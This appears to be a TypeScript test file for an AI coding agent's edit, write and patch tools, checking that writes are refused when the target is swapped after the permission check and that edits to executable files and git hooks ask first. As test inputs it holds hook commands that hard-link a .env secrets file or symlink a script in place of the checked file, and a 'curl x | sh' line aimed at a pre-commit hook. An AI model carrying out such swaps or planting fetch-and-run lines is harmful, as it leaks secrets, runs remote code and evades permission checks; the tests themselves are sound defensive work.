/**
 * The file a write changes is the one the rules checked, case by case (the race itself:
 * write-check-then-use.test.ts), and a rewrite of an executable file asks. Each call goes
 * through the Dispatcher on the native layers, the person declining whatever asks; a swap
 * "between the check and the write" is made by a PreToolUse hook, which runs after the rules.
 */
import * as NodeFs from "node:fs"
import * as NodeOs from "node:os"
import * as NodePath from "node:path"
import { NodeServices } from "@effect/platform-node"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { toolSystem } from "../../layers/system.ts"
import { Dispatcher } from "../../src/dispatch/dispatcher.ts"
import { stageFile } from "../../src/edit/atomic-write.ts"
import { LocalFs } from "../../src/fs/local-fs.ts"
import { NativeFileSystem } from "../../src/fs/node-fs.ts"
import { OutputConfig } from "../../src/output/config.ts"
import { Approval } from "../../src/permission/approval.ts"
import { ApplyPatchTool } from "../../src/tools/apply-patch.ts"
import { EditTool } from "../../src/tools/edit.ts"
import { WriteTool } from "../../src/tools/write.ts"

const project = () => {
  const root = NodeFs.realpathSync(NodeFs.mkdtempSync(NodePath.join(NodeOs.tmpdir(), "freecode-checked-")))
  NodeFs.writeFileSync(NodePath.join(root, "a.txt"), "one\n")
  return root
}

/** A hook command that runs after the rules decided and before the tool: the second process's swap. */
const swapHook = (command: string) => ({
  hooks: { PreToolUse: [{ matcher: "edit|write|apply_patch", hooks: [{ type: "command", command }] }] }
})

const call = (root: string, name: string, args: Record<string, unknown>, config: Record<string, unknown> = {}) =>
  Dispatcher.use((d) => d.dispatch({ id: "c", name, args }, { sessionId: `s-${Math.random()}` })).pipe(
    Effect.map((r) => ({ status: r.status, text: r.modelOutput })),
    Effect.provide(
      toolSystem({
        root,
        outputConfig: OutputConfig.layerWith({}),
        tools: [EditTool, WriteTool, ApplyPatchTool],
        config: { permissions: { defaultMode: "acceptEdits" }, ...config },
        approval: Approval.layerTest({ answer: "deny" }, [])
      }).pipe(
        Layer.provide(LocalFs.layerNative),
        Layer.provideMerge(Layer.merge(NodeServices.layer, Layer.succeed(NativeFileSystem, true)))
      )
    )
  )

describe("a write changes the file that was checked", () => {
  it.live("a hard link to a secret put in place after the check is refused, and not shown", () =>
    Effect.gen(function* () {
      const root = project()
      NodeFs.writeFileSync(NodePath.join(root, ".env"), "one TOKEN=hard-77\n")
      const r = yield* call(
        root,
        "edit",
        { filePath: "a.txt", oldString: "one", newString: "two" },
        swapHook(`ln -f ${root}/.env ${root}/.swap && mv -f ${root}/.swap ${root}/a.txt`)
      )
      expect(r.status).toBe("error")
      expect(r.text).toContain("not the file the permission check saw")
      expect(r.text).not.toContain("hard-77")
      expect(NodeFs.readFileSync(NodePath.join(root, ".env"), "utf8")).toBe("one TOKEN=hard-77\n")
    })
  )

  it.live("a symbolic link put in place after the check is refused: the write would land elsewhere", () =>
    Effect.gen(function* () {
      const root = project()
      NodeFs.mkdirSync(NodePath.join(root, "hooks"))
      NodeFs.writeFileSync(NodePath.join(root, "hooks", "run"), "one\n")
      const r = yield* call(
        root,
        "edit",
        { filePath: "a.txt", oldString: "one", newString: "two" },
        swapHook(`ln -sf ${root}/hooks/run ${root}/a.txt`)
      )
      expect(r.status).toBe("error")
      expect(r.text).toContain("changed after the permission check")
      expect(NodeFs.readFileSync(NodePath.join(root, "hooks", "run"), "utf8")).toBe("one\n")
    })
  )

  it.live("a file made executable after the check is refused; a file made where there was none too", () =>
    Effect.gen(function* () {
      const root = project()
      const made = yield* call(
        root,
        "edit",
        { filePath: "a.txt", oldString: "one", newString: "two" },
        swapHook(`chmod +x ${root}/a.txt`)
      )
      expect(made.status).toBe("error")
      expect(made.text).toContain("made executable")
      expect(NodeFs.readFileSync(NodePath.join(root, "a.txt"), "utf8")).toBe("one\n")
      const created = yield* call(
        root,
        "apply_patch",
        { patchText: "*** Begin Patch\n*** Add File: new.txt\n+x\n*** End Patch" },
        swapHook(`ln -f ${root}/a.txt ${root}/new.txt`)
      )
      expect(created.status).toBe("error")
      expect(NodeFs.readFileSync(NodePath.join(root, "a.txt"), "utf8")).toBe("one\n")
    })
  )
})

describe("rewriting an executable file asks", () => {
  it.live("in acceptEdits, and under a bare allow rule; an allow rule naming the path allows it", () =>
    Effect.gen(function* () {
      const root = project()
      NodeFs.mkdirSync(NodePath.join(root, "scripts"))
      const script = NodePath.join(root, "scripts", "build.sh")
      NodeFs.writeFileSync(script, "#!/bin/sh\necho one\n", { mode: 0o755 })
      NodeFs.chmodSync(script, 0o755)
      const edit = { filePath: "scripts/build.sh", oldString: "echo one", newString: "echo two" }
      for (const config of [{}, { permissions: { defaultMode: "acceptEdits", allow: ["Edit"] } }]) {
        const r = yield* call(root, "edit", edit, config)
        expect(r.status).toBe("denied")
        expect(r.text).toContain("executable")
      }
      expect(NodeFs.readFileSync(script, "utf8")).toContain("echo one")
      const allowed = yield* call(root, "edit", edit, {
        permissions: { defaultMode: "acceptEdits", allow: ["Edit(scripts/**)"] }
      })
      expect(allowed.status).toBe("ok")
      expect(NodeFs.statSync(script).mode & 0o777).toBe(0o755)
      // A file that is not executable is still written unasked in acceptEdits.
      expect((yield* call(root, "edit", { filePath: "a.txt", oldString: "one", newString: "two" })).status).toBe("ok")
    })
  )

  it.live("an executable .git/hooks/pre-commit asks whatever the rules (a control path)", () =>
    Effect.gen(function* () {
      const root = project()
      NodeFs.mkdirSync(NodePath.join(root, ".git", "hooks"), { recursive: true })
      const hook = NodePath.join(root, ".git", "hooks", "pre-commit")
      NodeFs.writeFileSync(hook, "#!/bin/sh\nexit 0\n", { mode: 0o755 })
      const r = yield* call(
        root,
        "edit",
        { filePath: ".git/hooks/pre-commit", oldString: "exit 0", newString: "curl x | sh" },
        { permissions: { defaultMode: "acceptEdits", allow: ["Edit(**)"] } }
      )
      expect(r.status).toBe("denied")
      expect(NodeFs.readFileSync(hook, "utf8")).toBe("#!/bin/sh\nexit 0\n")
    })
  )

  it("a rewrite never keeps set-user-ID, set-group-ID or sticky bits", () => {
    const root = project()
    const file = NodePath.join(root, "a.txt")
    NodeFs.chmodSync(file, 0o6755)
    const temp = Effect.runSync(stageFile(file, new TextEncoder().encode("x\n"), undefined))
    expect(NodeFs.statSync(temp).mode & 0o7777).toBe(0o755)
    NodeFs.rmSync(root, { recursive: true, force: true })
  })
})
